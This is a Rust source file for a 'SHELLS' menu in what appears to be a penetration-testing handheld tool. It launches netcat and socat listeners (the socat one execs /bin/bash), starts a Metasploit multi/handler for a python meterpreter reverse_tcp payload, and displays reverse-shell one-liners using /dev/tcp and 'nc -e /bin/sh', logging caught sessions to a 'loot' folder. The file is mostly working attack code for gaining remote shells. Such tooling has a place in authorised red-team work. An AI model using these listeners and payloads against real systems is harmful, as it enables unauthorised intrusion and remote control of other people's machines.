//! Reverse shell listeners and payload one-liners.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::Result;

use opsdeck_core::canvas::{Canvas, Tone};
use opsdeck_core::loot::loot_path;
use opsdeck_core::mode::{draw_header, Ctx, Menu, MenuItem, Mode};
use opsdeck_core::{AlertLevel, PayloadRequest, Settings};

use crate::net;

const LISTENER_TIMEOUT: Duration = Duration::from_secs(3600);
const DEFAULT_PORT: u16 = 4444;

pub struct ShellsMode {
    menu: Mutex<Menu>,
    local_ip: Arc<Mutex<String>>,
}

impl ShellsMode {
    pub fn new(settings: &Settings) -> Arc<Self> {
        let local_ip: Arc<Mutex<String>> = Arc::new(Mutex::new("0.0.0.0".to_string()));
        let items = vec![
            nc_item(4444, &local_ip),
            nc_item(443, &local_ip),
            nc_item(80, &local_ip),
            MenuItem::action("●", "Socat Listener", {
                let local_ip = Arc::clone(&local_ip);
                move |ctx| {
                    let outfile = loot_path(&ctx.settings, "shells", "socat", "log");
                    ctx.runner.run(PayloadRequest::new(
                        format!("Socat :{DEFAULT_PORT}"),
                        format!(
                            "socat TCP-LISTEN:{DEFAULT_PORT},reuseaddr,fork \
EXEC:/bin/bash,pty,stderr,setsid 2>&1 | tee {}",
                            outfile.display()
                        ),
                        LISTENER_TIMEOUT,
                    ));
                    ctx.state.add_alert(
                        format!(
                            "Socat on {}:{DEFAULT_PORT}",
                            local_ip.lock().expect("ip lock")
                        ),
                        AlertLevel::Info,
                    );
                    Ok(())
                }
            }),
            MenuItem::action("●", "MSF Handler", {
                let local_ip = Arc::clone(&local_ip);
                move |ctx| {
                    let rc = format!(
                        "use exploit/multi/handler\n\
set payload python/meterpreter/reverse_tcp\n\
set LHOST 0.0.0.0\nset LPORT {DEFAULT_PORT}\n\
set ExitOnSession false\nexploit -j\n"
                    );
                    ctx.runner.run(PayloadRequest::new(
                        "MSF Handler",
                        format!("echo '{rc}' > /tmp/handler.rc && msfconsole -q -r /tmp/handler.rc"),
                        LISTENER_TIMEOUT,
                    ));
                    ctx.state.add_alert(
                        format!(
                            "MSF on {}:{DEFAULT_PORT}",
                            local_ip.lock().expect("ip lock")
                        ),
                        AlertLevel::Info,
                    );
                    Ok(())
                }
            }),
            MenuItem::action("●", "Show Payloads", {
                let local_ip = Arc::clone(&local_ip);
                move |ctx| {
                    let ip = local_ip.lock().expect("ip lock").clone();
                    ctx.state.add_alert("== REVERSE SHELLS ==", AlertLevel::Info);
                    ctx.state.add_alert(
                        format!("bash -i >& /dev/tcp/{ip}/{DEFAULT_PORT} 0>&1"),
                        AlertLevel::Info,
                    );
                    ctx.state.add_alert(
                        format!("nc -e /bin/sh {ip} {DEFAULT_PORT}"),
                        AlertLevel::Info,
                    );
                    Ok(())
                }
            }),
            MenuItem::action("■", "Kill Listeners", |ctx| {
                kill_listeners(ctx);
                Ok(())
            }),
        ];
        Arc::new(Self {
            menu: Mutex::new(Menu::new(items, settings.ui.menu_visible_rows)),
            local_ip,
        })
    }
}

fn nc_item(port: u16, local_ip: &Arc<Mutex<String>>) -> MenuItem {
    let local_ip = Arc::clone(local_ip);
    MenuItem::action("●", format!("NC Listener {port}"), move |ctx| {
        let outfile = loot_path(&ctx.settings, "shells", &format!("nc_{port}"), "log");
        let sudo = if port < 1024 { "sudo " } else { "" };
        ctx.runner.run(PayloadRequest::new(
            format!("NC Listener :{port}"),
            format!("{sudo}nc -lvnp {port} 2>&1 | tee {}", outfile.display()),
            LISTENER_TIMEOUT,
        ));
        ctx.state.add_alert(
            format!("Listening on {}:{port}", local_ip.lock().expect("ip lock")),
            AlertLevel::Info,
        );
        Ok(())
    })
}

fn kill_listeners(ctx: &Ctx) {
    ctx.runner.run(PayloadRequest::new(
        "Kill Listeners",
        "pkill -9 nc; pkill -9 ncat; pkill -9 socat; pkill -9 msfconsole; pkill -9 ruby",
        Duration::from_secs(10),
    ));
}

impl Mode for ShellsMode {
    fn name(&self) -> &'static str {
        "SHELLS"
    }

    fn icon(&self) -> &'static str {
        "💻"
    }

    fn menu(&self) -> Option<&Mutex<Menu>> {
        Some(&self.menu)
    }

    fn on_enter(&self, _ctx: &Ctx) -> Result<()> {
        self.menu.lock().expect("menu lock").reset();
        *self.local_ip.lock().expect("ip lock") =
            net::local_ip().unwrap_or_else(|| "0.0.0.0".to_string());
        Ok(())
    }

    fn render(&self, ctx: &Ctx, canvas: &mut Canvas) -> Result<()> {
        draw_header(canvas, ctx, "SHELLS");
        canvas.pair(
            "LHOST:",
            self.local_ip.lock().expect("ip lock").clone(),
            Tone::Ok,
        );
        canvas.menu(&self.menu.lock().expect("menu lock"));
        canvas.footer("K3:Kill listeners");
        Ok(())
    }

    fn on_key3(&self, ctx: &Ctx) -> Result<()> {
        kill_listeners(ctx);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn listener_labels_cover_the_common_ports() {
        let mode = ShellsMode::new(&Settings::default());
        let labels = mode.action_labels();
        assert_eq!(labels.len(), 7);
        assert!(labels.contains(&"NC Listener 4444".to_string()));
        assert!(labels.contains(&"NC Listener 443".to_string()));
        assert!(labels.contains(&"NC Listener 80".to_string()));
    }
}
